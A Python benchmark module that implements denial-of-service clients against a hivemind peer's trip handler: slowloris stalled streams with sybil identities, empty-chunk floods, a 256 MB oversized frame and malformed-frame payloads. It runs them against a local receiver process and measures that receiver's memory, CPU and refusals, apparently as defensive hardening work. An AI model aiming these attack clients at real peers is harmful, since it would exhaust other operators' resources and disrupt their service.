"""Raw-stream attack clients against a peer's trip handler (issue 12), and a receiver to aim them at.

The attackers speak hivemind's stream framing by hand (a marker byte, an 8-byte big-endian length,
a protobuf), through their own hivemind P2P, so they can do what `send_trip` never does: stall in
the middle of a frame, send empty chunks forever, announce a 256 MB frame, send garbage.

`Receiver` runs a `TripServicer` (echoing a short acknowledgement) on its own P2P in a child
process, configured like `peer/cli.py` configures logging, and reports that process's peak RSS,
CPU time and refusals, so a measurement is not mixed up with the attacker's own memory:

    python -m benchmarks.attack_clients oversized --size 256M        # peak RSS of the receiver
    python -m benchmarks.attack_clients flood --chunks 10000         # CPU of an empty-chunk flood
    python -m benchmarks.attack_clients slowloris --streams 20       # honest latency meanwhile
    python -m benchmarks.attack_clients garbage                      # what the receiver logs
    ... --transport-file /tmp/old_transport.py                       # measure another transport.py

Each prints one JSON object.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import importlib.util
import json
import logging
import os
import resource
import subprocess
import sys
import time
from pathlib import Path
from typing import AsyncIterator  # noqa: UP035 - hivemind recognises streaming handlers by typing's alias only

from hivemind.p2p import P2P, P2PContext, PeerID, ServicerBase
from hivemind.proto import runtime_pb2
from hivemind.utils.multiaddr import Multiaddr

REPO = Path(__file__).resolve().parents[1]
NAMESPACE = "attack-run"
HANDLE = f"{NAMESPACE}::TripServicer.rpc_trip"
PROBE = f"{NAMESPACE}::Probe.rpc_probe"  # a hivemind protobuf stream handler, like the averager's
MESSAGE, END = b"\x00", b"\x01"


def frame(marker: bytes, payload: bytes) -> bytes:
    return marker + len(payload).to_bytes(8, "big") + payload


def chunk_frame(data: bytes) -> bytes:
    return frame(MESSAGE, runtime_pb2.ExpertRequest(metadata=data).SerializeToString())


async def attacker_p2p(maddrs: list[str]) -> P2P:
    return await P2P.create(
        initial_peers=[Multiaddr(m) for m in maddrs], host_maddrs=["/ip4/127.0.0.1/tcp/0"], nat_port_map=False
    )


async def open_stream(p2p: P2P, peer: PeerID, handle: str = HANDLE):
    _, reader, writer = await p2p.call_binary_stream_handler(peer, handle)
    return reader, writer


async def read_until_closed(reader: asyncio.StreamReader, timeout: float, limit: int = 1 << 20) -> bytes:
    """Everything the receiver sends back until it closes the stream (raw frames)."""
    out = bytearray()
    with contextlib.suppress(asyncio.TimeoutError, ConnectionError):
        async with _deadline(timeout):
            while len(out) < limit and (piece := await reader.read(1 << 16)):
                out += piece
    return bytes(out)


@contextlib.asynccontextmanager
async def _deadline(timeout: float):
    task = asyncio.current_task()
    handle = asyncio.get_running_loop().call_later(timeout, task.cancel)
    try:
        yield
    except asyncio.CancelledError:
        raise asyncio.TimeoutError from None
    finally:
        handle.cancel()


def reply_text(raw: bytes) -> str:
    """The metadata of the first reply frame, as text (error replies are `ERROR_MAGIC + JSON`)."""
    if len(raw) < 9 or raw[:1] != MESSAGE:
        return raw[:200].decode(errors="replace")
    length = int.from_bytes(raw[1:9], "big")
    try:
        return runtime_pb2.ExpertResponse.FromString(raw[9 : 9 + length]).metadata.decode(errors="replace")
    except Exception:  # noqa: BLE001
        return raw[:200].decode(errors="replace")


async def slowloris(p2p: P2P, peer: PeerID, streams: int = 20, prefix: int = 10, handle: str = HANDLE) -> list:
    """`streams` streams that each send the first `prefix` bytes of a frame and then nothing."""
    held = []
    for _ in range(streams):
        reader, writer = await open_stream(p2p, peer, handle)
        writer.write(chunk_frame(b"x" * 64)[:prefix])
        with contextlib.suppress(ConnectionError):  # refused at once: the receiver closed it already
            await writer.drain()
        held.append((reader, writer))
    return held


async def stalled_vs_honest(
    sybils: list[P2P],
    honest: P2P,
    peer: PeerID,
    streams_each: int,
    honest_trips: int,
    size: int,
    namespace: str = NAMESPACE,
    read_timeout: float = 30.0,
) -> tuple[list[float], list[str]]:
    """Every sybil holds `streams_each` stalled streams; meanwhile `honest` sends `honest_trips` messages of
    `size` bytes. Returns the honest round trips' latencies and what each stalled stream got back."""
    from peer.transport import send_trip  # lazily, as in _attack: `serve` may load another transport

    handle, held = f"{namespace}::TripServicer.rpc_trip", []
    for p2p in sybils:
        held += await slowloris(p2p, peer, streams=streams_each, prefix=10, handle=handle)
    closing = [asyncio.create_task(read_until_closed(r, read_timeout)) for r, _ in held]
    await asyncio.sleep(0.5)
    latencies = []
    for _ in range(honest_trips):
        sent = time.monotonic()
        reply = await send_trip(honest, peer, namespace, b"h" * size, timeout=30, max_reply=1024)
        latencies.append(time.monotonic() - sent)
        assert reply == b"ok:%d" % size, reply
    replies = [reply_text(r) for r in await asyncio.gather(*closing)]
    for _, writer in held:
        writer.close()
    return latencies, replies


async def empty_chunk_flood(
    p2p: P2P, peer: PeerID, chunks: int = 10_000, batch: int = 1000, handle: str = HANDLE
) -> dict:
    """One stream of `chunks` empty chunks (no end frame): how many went out before the cut, and the reply."""
    reader, writer = await open_stream(p2p, peer, handle)
    empty, sent, start = chunk_frame(b""), 0, time.monotonic()
    reply = asyncio.create_task(read_until_closed(reader, 30))
    try:
        while sent < chunks and not reply.done():
            n = min(batch, chunks - sent)
            writer.write(empty * n)
            await writer.drain()
            sent += n
    except (ConnectionError, OSError):
        pass
    raw = await reply
    writer.close()
    return {"chunks_written": sent, "seconds": round(time.monotonic() - start, 3), "reply": reply_text(raw)}


async def oversized_frame(
    p2p: P2P, peer: PeerID, size: int = 256 << 20, piece: int = 1 << 20, handle: str = HANDLE
) -> dict:
    """Announce one frame of `size` bytes and send all of it, 1 MiB at a time, until the stream breaks."""
    reader, writer = await open_stream(p2p, peer, handle)
    body = runtime_pb2.ExpertRequest(metadata=b"\0" * piece).SerializeToString()[:piece]
    start, sent = time.monotonic(), 0
    reply = asyncio.create_task(read_until_closed(reader, 120))
    try:
        writer.write(MESSAGE + size.to_bytes(8, "big"))
        while sent < size:
            n = min(piece, size - sent)
            writer.write(body[:n] if n < piece else body)
            await writer.drain()
            sent += n
        writer.write(frame(END, b""))
        await writer.drain()
    except (ConnectionError, OSError):
        pass
    raw = await reply
    writer.close()
    return {"bytes_written": sent, "seconds": round(time.monotonic() - start, 3), "reply": reply_text(raw)}


GARBAGE = {
    "bad marker": b"\x07" + b"\xff" * 40,
    "not protobuf": frame(MESSAGE, b"\xff\xfe\xfd garbage \x00\x01"),
    "wrong fields": frame(MESSAGE, runtime_pb2.ExpertRequest(uid="x" * 50).SerializeToString()),
    "lying length": MESSAGE + (1 << 62).to_bytes(8, "big") + b"abc",
    "truncated": chunk_frame(b"hello")[:7],
    "end frame huge": END + (1 << 40).to_bytes(8, "big"),
    "trip garbage": chunk_frame(b"hello, peer") + frame(END, b""),
}


async def garbage(p2p: P2P, peer: PeerID, payload: bytes, handle: str = HANDLE) -> str:
    reader, writer = await open_stream(p2p, peer, handle)
    writer.write(payload)
    await writer.drain()
    raw = await read_until_closed(reader, 10)
    writer.close()
    return reply_text(raw)


# --- the receiver: a TripServicer in a child process ---------------------------------------------


class Probe(ServicerBase):
    """A hivemind protobuf stream handler (as the averager registers) to see what hivemind logs."""

    async def rpc_probe(
        self, requests: AsyncIterator[runtime_pb2.ExpertRequest], context: P2PContext
    ) -> AsyncIterator[runtime_pb2.ExpertResponse]:
        async for _ in requests:
            pass
        yield runtime_pb2.ExpertResponse(metadata=b"probe")


def _vm_kb(pid: int, key: str) -> int:
    with contextlib.suppress(OSError):
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith(key + ":"):
                return int(line.split()[1])
    return 0


def _cpu_s(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


async def _serve(max_bytes: int, transport_file: str | None, kwargs: dict) -> None:
    logging.basicConfig(level="INFO", format="%(asctime)s %(levelname)s %(name)s: %(message)s")  # as peer/cli.py
    for noisy in ("hivemind", "asyncio"):
        logging.getLogger(noisy).setLevel(max(logging.WARNING, logging.getLogger().level))
    if transport_file:
        spec = importlib.util.spec_from_file_location("transport_under_test", transport_file)
        transport = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(transport)
    else:
        from peer import transport
    refused: dict[str, int] = {}
    served = [0]

    async def on_trip(blob: bytes, remote: PeerID) -> bytes:
        served[0] += 1
        return b"ok:%d" % len(blob)

    def on_refused(code) -> None:
        refused[code.value] = refused.get(code.value, 0) + 1

    p2p = await P2P.create(host_maddrs=["/ip4/127.0.0.1/tcp/0"], nat_port_map=False)
    servicer = transport.TripServicer(on_trip, max_bytes=max_bytes, on_refused=on_refused, **kwargs)
    await servicer.add_p2p_handlers(p2p, namespace=NAMESPACE)
    await Probe().add_p2p_handlers(p2p, namespace=NAMESPACE)
    maddrs = [str(m) for m in await p2p.get_visible_maddrs()]
    child = p2p._child.pid if p2p._child is not None else None

    def stats() -> dict:
        out = {
            "peak_rss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
            "rss_kb": _vm_kb(os.getpid(), "VmRSS"),
            "cpu_s": round(time.process_time(), 3),
            "served": served[0],
            "refused": dict(refused),
        }
        if child:
            out.update(p2pd_peak_rss_kb=_vm_kb(child, "VmHWM"), p2pd_cpu_s=round(_cpu_s(child), 3))
        return out

    print(json.dumps({"peer_id": p2p.peer_id.to_base58(), "maddrs": maddrs, **stats()}), flush=True)
    loop = asyncio.get_running_loop()
    stdin = asyncio.StreamReader()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(stdin), sys.stdin)
    while line := await stdin.readline():
        if line.strip() == b"stats":
            print(json.dumps(stats()), flush=True)
    await p2p.shutdown()


class Receiver:
    """A TripServicer in a child process; `stats()` asks it for peak RSS, CPU, served and refused counts."""

    def __init__(
        self, max_bytes: int = 28_000, transport_file: str | None = None, log_path: Path | None = None, **kwargs
    ):
        cmd = [
            sys.executable,
            "-m",
            "benchmarks.attack_clients",
            "serve",
            "--max-bytes",
            str(max_bytes),
            "--kwargs",
            json.dumps(kwargs),
        ]
        if transport_file:
            cmd += ["--transport-file", transport_file]
        env = dict(os.environ, OMP_NUM_THREADS="1", PYTHONPATH=f"{REPO}{os.pathsep}{os.environ.get('PYTHONPATH', '')}")
        self.log = open(log_path, "wb") if log_path else subprocess.DEVNULL  # noqa: SIM115
        self.proc = subprocess.Popen(
            cmd, cwd=REPO, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=self.log
        )
        first = self.proc.stdout.readline()
        if not first:
            raise RuntimeError("receiver failed to start")
        self.info = json.loads(first)
        self.peer_id = PeerID.from_base58(self.info["peer_id"])
        self.maddrs = self.info["maddrs"]

    def stats(self) -> dict:
        self.proc.stdin.write(b"stats\n")
        self.proc.stdin.flush()
        return json.loads(self.proc.stdout.readline())

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.proc.stdin.close()
        try:
            self.proc.wait(15)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        if self.log is not subprocess.DEVNULL:
            self.log.close()

    def __enter__(self) -> Receiver:
        return self

    def __exit__(self, *exc) -> None:
        self.close()


def _size(text: str) -> int:
    units = {"K": 1 << 10, "M": 1 << 20, "G": 1 << 30}
    return int(float(text[:-1]) * units[text[-1].upper()]) if text[-1].upper() in units else int(text)


async def _attack(args, receiver: Receiver) -> dict:
    from peer.transport import send_trip

    attacker = await attacker_p2p(receiver.maddrs)
    honest = await attacker_p2p(receiver.maddrs)
    peer = receiver.peer_id
    before = receiver.stats()
    out: dict = {"attack": args.attack, "before": before}
    try:
        if args.attack == "oversized":
            handle = PROBE if args.probe else HANDLE
            out["result"] = await oversized_frame(attacker, peer, _size(args.size), handle=handle)
        elif args.attack == "flood":
            runs = [await empty_chunk_flood(attacker, peer, args.chunks) for _ in range(args.repeat)]
            out["result"] = {**runs[0], "streams": len(runs), "seconds_all": round(sum(r["seconds"] for r in runs), 3)}
        elif args.attack == "garbage":
            out["result"] = {name: await garbage(attacker, peer, blob) for name, blob in GARBAGE.items()}
            out["probe"] = {name: await garbage(attacker, peer, blob, PROBE) for name, blob in GARBAGE.items()}
        elif args.attack == "slowloris":
            sybils = [attacker] + [await attacker_p2p(receiver.maddrs) for _ in range(args.identities - 1)]
            held = []
            for p2p in sybils:
                held += await slowloris(p2p, peer, args.streams)
            await asyncio.sleep(0.5)
            latencies, replies = [], set()
            for _ in range(args.honest):
                start = time.monotonic()
                reply = await send_trip(honest, peer, NAMESPACE, b"honest" * 100, timeout=60, max_reply=1 << 16)
                latencies.append(round(time.monotonic() - start, 3))
                replies.add(reply.decode(errors="replace")[:120])
            cut = await asyncio.gather(*(read_until_closed(r, 60) for r, _ in held))
            out["result"] = {
                "honest_latency_s": latencies,
                "honest_replies": sorted(replies),
                "slow_replies": sorted({reply_text(c) for c in cut}),
            }
            for _, w in held:
                w.close()
            for p2p in sybils[1:]:
                await p2p.shutdown()
        await asyncio.sleep(0.5)
        after = receiver.stats()
        out["after"] = after
        out["peak_rss_increase_mb"] = round((after["peak_rss_kb"] - before["peak_rss_kb"]) / 1024, 1)
        out["cpu_s"] = round(after["cpu_s"] - before["cpu_s"], 3)
        if "p2pd_peak_rss_kb" in after:
            out["p2pd_peak_rss_increase_mb"] = round((after["p2pd_peak_rss_kb"] - before["p2pd_peak_rss_kb"]) / 1024, 1)
            out["p2pd_cpu_s"] = round(after["p2pd_cpu_s"] - before["p2pd_cpu_s"], 3)
    finally:
        await attacker.shutdown()
        await honest.shutdown()
    return out


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=("serve", "oversized", "flood", "slowloris", "garbage"))
    parser.add_argument("--max-bytes", type=int, default=28_000)
    parser.add_argument("--transport-file", default=None, help="a transport.py to measure instead of peer/transport.py")
    parser.add_argument("--kwargs", default="{}", help="JSON keyword arguments for TripServicer")
    parser.add_argument("--size", default="256M")
    parser.add_argument("--chunks", type=int, default=10_000)
    parser.add_argument("--streams", type=int, default=20)
    parser.add_argument("--identities", type=int, default=1, help="slowloris: attacker identities, --streams each")
    parser.add_argument("--probe", action="store_true", help="oversized: aim at a hivemind protobuf stream handler")
    parser.add_argument("--repeat", type=int, default=1, help="flood: streams, one after another")
    parser.add_argument("--honest", type=int, default=5)
    parser.add_argument("--log", type=Path, default=None, help="where the receiver's log goes")
    args = parser.parse_args(argv)
    if args.attack == "serve":
        asyncio.run(_serve(args.max_bytes, args.transport_file, json.loads(args.kwargs)))
        return 0
    with Receiver(args.max_bytes, args.transport_file, args.log, **json.loads(args.kwargs)) as receiver:
        print(json.dumps(asyncio.run(_attack(args, receiver))))
    return 0


if __name__ == "__main__":
    sys.exit(main())
